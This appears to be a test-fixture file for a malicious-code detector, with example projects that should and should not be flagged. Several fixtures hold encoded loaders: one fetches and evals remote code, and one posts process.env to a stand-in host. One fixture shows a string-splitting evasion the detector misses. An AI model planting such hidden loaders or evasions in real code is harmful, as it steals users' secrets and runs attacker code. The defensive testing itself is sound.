import type { Examples } from "@doorward/core";

/** Hidden code that starts, fetches or sends, and hidden code that does no such thing. */
export const examples: Examples = {
  hits: [
    {
      name: "a decoded loader",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `eval(atob("ZmV0Y2goImh0dHBzOi8vYXBpLmV4YW1wbGUvY2hlY2siKS50aGVuKChyKSA9PiByLnRleHQoKSkudGhlbigodCkgPT4gZXZhbCh0KSk7"));
`,
      },
    },
    {
      name: "a decoded command in the installer of a Python package",
      files: {
        "setup.py": `from setuptools import setup
import base64
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBpbmVydCIp"))
setup(name="shop", version="1.0")
`,
      },
    },
    {
      name: "decoded code that sends the environment away",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `new Function("require", "process", Buffer.from("7265717569726528226178696f7322292e706f7374282268747470733a2f2f6170692e6578616d706c652f636865636b222c207b202e2e2e70726f636573732e656e76207d293b", "hex").toString())(require, process);
`,
      },
    },
  ],
  misses: [
    {
      name: "decoded code that prints a line",
      why: "It is hidden, which another rule says, and it does nothing to the computer.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString());
`,
      },
    },
    {
      name: "code in plain text that starts a program",
      why: "The text can be read where it stands.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `eval('require("child_process").execSync("git --version")');
`,
      },
    },
    {
      name: "a decoded configuration with an address",
      why: "The configuration is read as data.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const settings = JSON.parse(Buffer.from("eyJ1cmwiOiJodHRwczovL2FwaS5leGFtcGxlIn0=", "base64").toString());
fetch(settings.url).then((answer) => console.log(answer.status));
`,
      },
    },
  ],
  evasions: [
    {
      name: "hidden code that is only put together from pieces of plain text",
      caughtBy: "nothing",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const parts = ["require('child", "_process').exec", "('echo inert')"];
eval(parts.join(""));
`,
      },
    },
  ],
};
